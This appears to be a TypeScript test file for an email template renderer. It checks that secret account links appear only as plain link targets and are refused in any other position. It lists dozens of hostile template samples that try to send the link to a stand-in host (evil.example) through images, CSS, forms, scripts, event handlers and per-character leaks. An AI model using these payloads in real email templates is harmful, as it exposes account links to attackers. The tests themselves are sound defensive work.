import { describe, expect, test } from 'vitest'
import { TEST_SITE } from '../../../../../tests/kit/mail.ts'
import { TemplateType } from '../../contract/email.ts'
import { listSecretLinkVariables, pickSecretLinks } from '../../contract/secret-links.ts'
import { sampleVariables } from '../../emails/sample-messages.ts'
import { shippedEmailTemplates } from '../../emails/shipped-templates.ts'
import { templateVariableMeanings } from '../../emails/variable-meanings.ts'
import { renderCheckedTemplate, type TemplateRenderResult } from './fill-template.ts'

const link = 'https://seminars.example.ph/account-link#sample'

function fill(parts: { subject?: string; html?: string; text?: string }): Promise<TemplateRenderResult> {
  const variables = sampleVariables('account_link', TEST_SITE)
  return renderCheckedTemplate({
    template: { subject: 'Your account', html: '<p>Hello</p>', text: 'Hello', ...parts },
    variables,
    secretLinks: pickSecretLinks('account_link', variables),
    mayMiss: false,
    checksNames: false,
  })
}

const anchor = '<a href="{{ accountLink }}">Open</a>'

describe('Secret links in HTML templates', () => {
  test.for([
    anchor,
    '<!doctype html>\n<html><head><title>x</title></head><body><A class=brand HREF="{{ accountLink }}" target="_blank">Open</A></body></html>',
    "<table><tr><td><a href='{{ accountLink }}' style='color:red'>{{ accountLink }}</a></td></tr></table>",
    `<style>a{color:#fff}@media (prefers-color-scheme:dark){a{color:#000}}</style>${anchor}<!-- thanks -->`,
    `<img src="https://seminars.example.ph/logo.png" alt="">${anchor}`,
    '{% if accountLink %}<a href="{{ accountLink | strip }}">Open</a>{% endif %}',
    `{% assign link = accountLink %}<a href="{{ link }}">Open</a>`,
  ])('are inserted as the target of a link: %s', async (html) => {
    expect(await fill({ html })).toMatchObject({ message: { html: expect.stringContaining(link) } })
  })

  test.for([
    ['an image', '<img src="https://evil.example/?{{ accountLinkTemplate }}">'],
    ['an image on its own', '<img src="{{ accountLink }}">'],
    ['an unquoted attribute', '<img src=https://evil.example/?{{ accountLinkTemplate }}>'],
    ['an unquoted target', '<a href={{ accountLink }}>Open</a>'],
    ['a set of images', '<img srcset="https://evil.example/{{ accountLinkTemplate }} 2x">'],
    ['a background', '<table background="https://evil.example/?{{ accountLinkTemplate }}"></table>'],
    ['a style', '<p style="background:url(https://evil.example/?{{ accountLinkTemplate }})">x</p>'],
    ['a style sheet', '<style>p{background:url({{ accountLink }})}</style>'],
    ['a linked style sheet', '<link rel="stylesheet" href="https://evil.example/{{ accountLinkTemplate }}">'],
    ['a prefetched link', '<link rel="prefetch" href="{{ accountLink }}">'],
    [
      'a refresh',
      '<meta http-equiv="refresh" content="0;url=https://evil.example/?{{ accountLinkTemplate }}">',
    ],
    [
      'the address of a form',
      '<form action="https://evil.example/?{{ accountLinkTemplate }}"><button>x</button></form>',
    ],
    [
      'a field of a form',
      '<form action="https://evil.example/"><input name="l" value="{{ accountLinkTemplate }}"></form>',
    ],
    [
      'a text field',
      '<form action="https://evil.example/"><textarea>{{ accountLinkTemplate }}</textarea></form>',
    ],
    ['another address', '<a href="https://evil.example/?{{ accountLinkTemplate }}">Open</a>'],
    [
      'another address by a filter',
      '<a href="{{ accountLink | prepend: \'https://evil.example/?\' }}">Open</a>',
    ],
    [
      'another address, encoded',
      '<a href="https://evil.example/?{{ accountLinkTemplate | url_encode }}">Open</a>',
    ],
    [
      'another address, captured',
      '{% capture a %}https://evil.example/?{{ accountLinkTemplate }}{% endcapture %}<a href="{{ a }}">Open</a>',
    ],
    ['another address, assigned', '{% assign a = accountLink | append: "x" %}<img src="{{ a }}">'],
    ['another scheme', '<a href="javascript:{{ accountLink }}">Open</a>'],
    ['words outside of a link', '<p>{{ accountLink }}</p>'],
    ['the words of another link', '<a href="https://evil.example/">{{ accountLinkTemplate }}</a>'],
    ['a data attribute', '<p data-link="{{ accountLink }}">x</p>'],
    ['a comment', '<!-- {{ accountLink }} -->'],
    [
      'a conditional comment',
      '<!--[if mso]><img src="https://evil.example/?{{ accountLinkTemplate }}"><![endif]-->',
    ],
    ['an area', '<map><area href="{{ accountLink }}"></map>'],
    ['a base address', '<base href="{{ accountLink }}">'],
    ['a frame', '<iframe src="{{ accountLink }}"></iframe>'],
    ['a drawing', '<svg><image href="{{ accountLink }}"/></svg>'],
    ['a script', '<script>fetch("https://evil.example/?{{ accountLinkTemplate }}")</script>'],
    ['a bracket', '<img src="https://evil.example/?{{ [\'accountLinkTemplate\'] }}">'],
  ])('are refused in %s', async ([, html]) => {
    const filled = await fill({ html: html ?? '' })
    expect(JSON.stringify(filled)).not.toContain('account-link#sample')
    expect(filled).toMatchObject({ mistakes: [{ part: 'html' }] })
  })

  test.for([
    ['an image left open', `<img src='https://evil.example/?${anchor}'>`],
    [
      'an image left open in a comment',
      `<!--[if mso]><img src='https://evil.example/?<![endif]-->${anchor}'>`,
    ],
    ['a text field left open', `<form action="https://evil.example/"><textarea>${anchor}`],
    ['a ping', '<a href="{{ accountLink }}" ping="https://evil.example/">Open</a>'],
    ['a handler', '<a href="{{ accountLink }}" onclick="fetch(this.href)">Open</a>'],
    ['a handler on an image', `<img src="x" onerror="fetch(document.links[0])">${anchor}`],
    ['two targets', '<a href="{{ accountLink }}" href="https://evil.example/">Open</a>'],
    ['a tag with a wide space', '<a\u00a0href="{{ accountLink }}">Open</a>'],
    [
      'a style sheet that reads targets',
      `<style>a[href*="aa"]{background:url(https://evil.example/aa)}</style>${anchor}`,
    ],
    ['a style sheet with escapes', `<style>p{background:u\\72l(https://evil.example/)}</style>${anchor}`],
    ['an imported style sheet', `<style>@import "https://evil.example/x.css";</style>${anchor}`],
    ['a linked style sheet beside it', `<link rel="stylesheet" href="https://evil.example/x.css">${anchor}`],
    ['a base address beside it', `<base href="https://evil.example/">${anchor}`],
    ['a script beside it', `<script src="https://evil.example/x.js"></script>${anchor}`],
    ['a template', `<template>${anchor}</template>`],
  ])('are refused where other markup could read them: %s', async ([, html]) => {
    const filled = await fill({ html: html ?? '' })
    expect(JSON.stringify(filled)).not.toContain('account-link#sample')
    expect(filled).toMatchObject({ mistakes: [{ part: 'html' }] })
  })

  test.for([
    ['slices', '{{ accountLink | slice: 30, 40 }}'],
    [
      'letters',
      '{% assign letters = accountLink | split: "" %}{% for l in letters %}<img src="https://evil.example/{{ l }}">{% endfor %}',
    ],
    ['another case', '<img src="https://evil.example/?{{ accountLinkTemplate | upcase }}">'],
    [
      'a comparison',
      '{% if accountLink contains "account-link#s" %}<img src="https://evil.example/matched">{% endif %}',
    ],
    ['base64', '<img src="https://evil.example/?{{ accountLinkTemplate | base64_encode }}">'],
  ])('reveal nothing to a template that uses %s', async ([, html]) => {
    const filled = await fill({ html: html ?? '' })
    expect(JSON.stringify(filled)).not.toMatch(
      /account-link#|ACCOUNT-LINK#|YWNjb3VudC1saW5r|evil\.example\/matched/,
    )
  })
})

describe('Secret links outside HTML', () => {
  test.for(['Open {{ accountLink }}', '{{ accountLink }}', 'Open:\n{{ accountLink }}.\nThanks'])(
    'are inserted into the text part when standing alone: %j',
    async (text) => {
      expect(await fill({ text })).toMatchObject({ message: { text: expect.stringContaining(link) } })
    },
  )

  test.for([
    'https://evil.example/?{{ accountLinkTemplate }}',
    'https://evil.example/?\u00a0{{ accountLinkTemplate }}',
    '({{ accountLink }})',
    '{{ accountLink }}{{ accountLink }}',
    '{{ accountLink }}@evil.example',
    '{{ accountLink | url_encode }}',
  ])('are refused as part of a longer string in the text part: %j', async (text) => {
    expect(await fill({ text })).toMatchObject({ mistakes: [{ part: 'text' }] })
  })

  test('are refused in the subject', async () => {
    expect(await fill({ subject: '{{ accountLink }}' })).toMatchObject({ mistakes: [{ part: 'subject' }] })
  })
})

test('All shipped templates render with their secret links inserted', async () => {
  for (const [templateType, template] of Object.entries(shippedEmailTemplates)) {
    const type = TemplateType.parse(templateType)
    const variables = sampleVariables(type, TEST_SITE)
    const secretLinks = pickSecretLinks(type, variables)
    const filled = await renderCheckedTemplate({
      template,
      variables,
      secretLinks,
      mayMiss: false,
      checksNames: true,
    })
    expect([type, filled]).toEqual([type, { message: expect.anything() }])
    for (const secret of Object.values(secretLinks)) {
      expect(JSON.stringify(filled)).toContain(secret)
      expect(JSON.stringify(filled)).not.toContain('link.invalid')
    }
  }
})

/** Links that anybody may know: they open nothing that is not open already. */
const openLinks = ['registerLink', 'replyLink', 'messagesLink']

test('Every template variable ending in Link is secret or explicitly listed as open', () => {
  for (const type of TemplateType.options) {
    const links = Object.keys(templateVariableMeanings[type]).filter((name) => name.endsWith('Link'))
    expect([type, links.filter((name) => !openLinks.includes(name))]).toEqual([
      type,
      [...listSecretLinkVariables(type)],
    ])
  }
})
